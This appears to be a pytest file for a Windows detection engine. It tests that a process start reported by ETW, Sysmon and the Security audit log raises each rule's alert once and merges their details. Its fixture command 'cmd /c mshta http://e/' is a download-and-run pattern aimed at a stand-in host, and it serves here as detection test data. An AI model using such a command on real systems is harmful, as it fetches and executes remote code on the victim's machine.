"""Starts of Windows that several sources tell of, live: one process, and each rule alerts on it once."""

from __future__ import annotations

import json
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta
from itertools import groupby
from typing import Any

import pytest
from engine_rules import Row
from etl_file import Event
from test_etw_source import MS, Source, alerts, running
from test_windows_chains import told_twice

from sensor.native import Engine, lib

SYSMON = "Microsoft-Windows-Sysmon/Operational"
LINE = "cmd /c mshta http://e/"
ROWS: list[Row] = [
    ("windows", "process_creation", "CommandLine", "mshta"),  # all of them say it
    ("windows", "process_creation", "Hashes", "SHA1"),  # Sysmon alone
    ("windows", "process_creation", "SubjectUserName", "anna"),  # the audit log alone
    ("windows", "network_connection", "DestinationIp", "10.0.0.1"),
]


def at(ms: float) -> datetime:
    """A time of etl_file's BEGIN."""
    return datetime(2019, 4, 17, 18, 40, tzinfo=UTC) + timedelta(milliseconds=ms)


def sysmon(pid: int, parent: int, ms: float, number: int = 1, **more: Any) -> dict[str, Any]:
    return {"Event": {"System": {"Channel": SYSMON, "EventID": number}, "EventData": {
        "UtcTime": at(ms).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], "ProcessId": str(pid), "CommandLine": LINE,
        "ProcessGuid": f"{{11111111-0000-0000-{pid:04x}-{int(ms):012x}}}", "Image": "C:\\x\\cmd.exe",
        "ParentProcessGuid": f"{{11111111-0000-0000-{parent:04x}-{0:012x}}}", "ParentProcessId": str(parent),
        "Hashes": "SHA1=00"} | more}}  # fmt: skip


def audit(pid: int, parent: int, ms: float) -> dict[str, Any]:
    system = {"Channel": "Security", "EventID": 4688,
              "TimeCreated": {"#attributes": {"SystemTime": at(ms).strftime("%Y-%m-%dT%H:%M:%S.%f0Z")}}}  # fmt: skip
    return {"Event": {"System": system, "EventData": {
        "NewProcessId": hex(pid), "ProcessId": hex(parent), "CommandLine": LINE, "NewProcessName": "C:\\x\\cmd.exe",
        "SubjectUserName": "anna"}}}  # fmt: skip


def tell(engine: Engine, source: Source, told: Iterable[Event | dict[str, Any]]) -> None:
    """In that order; what a session tells in a row is delivered together."""
    for _, row in groupby(told, lambda what: isinstance(what, Event)):
        for what in row:
            if isinstance(what, Event):
                source.deliver(what)
            else:
                line = json.dumps(what).encode()
                assert lib.sn_etw_source__line(source.pointer, line, len(line)) == 0
        engine.stop()
        engine.run()


END = Event("process", 2, 0, b"\x18\0\0\0" + bytes(44) + b"x\0", at=30 * MS)
NEXT = told_twice(24, 20, LINE, 500)
# what is told, the rules that alert in any order, and how many alerts were left out
CASES: list[tuple[str, list[Event | dict[str, Any]], list[int], int]] = [
    ("a session, then Sysmon, then the audit log",
     [*told_twice(24, 20, LINE, 10), sysmon(24, 20, 12), audit(24, 20, 11)], [0, 1, 2], 2),
    ("the other way round", [audit(24, 20, 11), sysmon(24, 20, 12), *told_twice(24, 20, LINE, 10)], [0, 1, 2], 2),
    ("Sysmon and the audit log", [sysmon(24, 20, 12), audit(24, 20, 11)], [0, 1, 2], 1),
    ("another parent", [*told_twice(24, 20, LINE, 10), sysmon(24, 28, 12)], [0, 0, 1], 0),
    ("another time", [*told_twice(24, 20, LINE, 10), sysmon(24, 20, 1200)], [0, 0, 1], 0),
    ("the pid's next, once the first has ended",
     [*told_twice(24, 20, LINE, 10), END, sysmon(24, 20, 40)], [0, 0, 1], 0),
    ("twice in one source", [sysmon(24, 20, 12), sysmon(24, 20, 13)], [0, 0, 1, 1], 0),
    ("two starts, each by two sources",
     [*told_twice(24, 20, LINE, 10), END, *NEXT, sysmon(24, 20, 11), sysmon(24, 20, 501)], [0, 0, 1, 1], 2),
    ("what it does then is known by each",
     [*told_twice(24, 20, LINE, 10), sysmon(24, 20, 12), sysmon(24, 20, 12, 3, DestinationIp="10.0.0.1")],
     [0, 1, 3], 1),
]  # fmt: skip


@pytest.mark.parametrize(("told", "rules", "left_out"), [row[1:] for row in CASES], ids=[row[0] for row in CASES])
def test_a_rule_alerts_once_on_a_start(told: list[Event | dict[str, Any]], rules: list[int], left_out: int) -> None:
    with running(ROWS) as (engine, source, writer):
        tell(engine, source, told)
        found = alerts(engine, writer)
        assert sorted(a["rule"] for a in found) == rules
        assert engine.stats()["alerts_again"] == left_out


def test_who_it_was_is_said_by_all() -> None:
    """A session has no GUID, the audit log no directory: what each says is the process's."""
    with running(ROWS) as (engine, source, writer):
        both = sysmon(24, 20, 12, CurrentDirectory="C:\\d\\", User="A\\anna")
        tell(engine, source, [*told_twice(24, 20, LINE, 10), both, sysmon(24, 20, 12, 3, DestinationIp="10.0.0.1")])
        process = alerts(engine, writer)[-1]["process"]
        assert (process["cwd"], process["user"], process["command_line"]) == ("C:\\d\\", "A\\anna", LINE)
        assert process["start"] == int(at(10).timestamp()) * 10**9 + 10 * MS


def test_a_replay_tells_of_each_event() -> None:
    with running(ROWS) as (engine, _, writer):
        for one in (sysmon(24, 20, 12), audit(24, 20, 11)):
            assert engine.feed_json(json.dumps(one).encode())
        assert sorted(a["rule"] for a in alerts(engine, writer)) == [0, 0, 1, 2]
